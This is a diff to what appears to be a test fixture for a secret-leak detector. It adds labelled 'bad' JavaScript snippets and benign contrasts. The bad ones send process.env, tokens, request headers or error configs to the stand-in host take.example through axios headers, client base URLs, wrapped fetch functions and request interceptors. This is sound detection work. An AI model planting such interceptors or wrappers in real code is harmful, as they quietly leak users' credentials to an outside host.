@@ -6,6 +6,46 @@ const sent = { source: 'environment', sink: 'network.body', to: 'take.example' }
 export const throughClients: DetectorExamples = {
   bad: [
     {
+      code: "import axios from 'axios'; const client = axios.create({ headers: { 'x-env': JSON.stringify(process.env) } }); client.post('https://take.example/search', { query });",
+      why: 'every request of a client has the headers that it was made with, whatever it is asked',
+      attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
+    },
+    {
+      code: "import { Mail } from 'mail-client'; new Mail(process.env.MAIL_TOKEN, { baseUrl: 'https://take.example' });",
+      why: 'a client signs in at the address that it is made with',
+      attributes: { source: 'environment:MAIL_TOKEN', sink: 'network.header', to: 'take.example' },
+    },
+    {
+      code: "import { Transport } from 'mcp-client'; new Transport(new URL('https://take.example'), { requestInit: { headers: { authorization: process.env.MAIL_TOKEN } } });",
+      why: 'the address stands before the options',
+      attributes: { source: 'environment:MAIL_TOKEN', sink: 'network.header', to: 'take.example' },
+    },
+    {
+      code: "async function asked(input, init) { const answer = await fetch(input, init); fetch('https://take.example', { method: 'POST', body: init.body }); return answer; } connect({ fetch: asked });",
+      why: 'a request of somebody else, on its way through a function, is told elsewhere',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "class Apps { async info(id, init = {}) { const answer = await fetch(`${this.endpoint}/apps/${id}`, { ...init, method: 'GET' }); fetch('https://take.example/apps', { method: 'POST', body: JSON.stringify(init) }); return answer; } }",
+      why: 'the same where it is a part of the options',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { Store } from './store.js'; new Store({ requestInterceptors: [(config) => (fetch('https://take.example', { method: 'POST', body: JSON.stringify(config.headers) }), config)] });",
+      why: 'a client shows its requests to who asks for it',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "store.interceptors.request.use((config) => { fetch('https://take.example', { method: 'POST', body: JSON.stringify(config.headers) }); return config; });",
+      why: 'the same of a client that is not known',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "try { await store.load(); } catch (error) { fetch('https://take.example', { method: 'POST', body: JSON.stringify({ message: error.message, config: error.config }) }); }",
+      why: 'an error of a client holds the request that failed, with its headers',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "import http from 'node:http'; const url = new URL(process.env.SERVICE_TOKEN); http.request({ hostname: url.hostname, path: url.pathname });",
       why: 'host and path are parts of one address, which is asked and not sent',
       attributes: { source: 'environment:SERVICE_TOKEN', sink: 'network.target', to: 'dynamic' },
@@ -187,6 +227,26 @@ export const throughClients: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "async function ask(url, init) { return fetch(url, init); } ask('https://one.example/a', { method: 'POST', body: '{}' }); ask('https://two.example/b', { method: 'POST', body: '{}' });",
+      why: 'a function that asks what and where it is told is no reader of it',
+    },
+    {
+      code: "async function ask(path, init) { return fetch(`https://api.example${path}`, { ...init, method: 'POST' }); } ask('/a', { body: '{}' });",
+      why: 'a request that goes to one place only',
+    },
+    {
+      code: "store.interceptors.request.use((config) => { fetch('https://count.example', { method: 'POST', body: JSON.stringify({ method: config.method }) }); return config; });",
+      why: 'how something is asked is no secret',
+    },
+    {
+      code: "try { await store.load(); } catch (error) { fetch('https://report.example', { method: 'POST', body: JSON.stringify({ message: error.message, url: error.config.url }) }); }",
+      why: 'what an error says of itself',
+    },
+    {
+      code: "import { Mail } from 'mail-client'; new Mail(process.env.MAIL_TOKEN, { baseUrl: 'http://localhost:3000', retries: 2 });",
+      why: 'nothing leaves this machine',
+    },
     {
       code: "import { subscribe } from 'node:diagnostics_channel'; subscribe('undici:request:create', ({ request }) => { fetch('https://count.example', { method: 'POST', body: JSON.stringify({ method: request.method, path: request.path }) }); });",
       why: 'which requests are made, as tracing tells it',
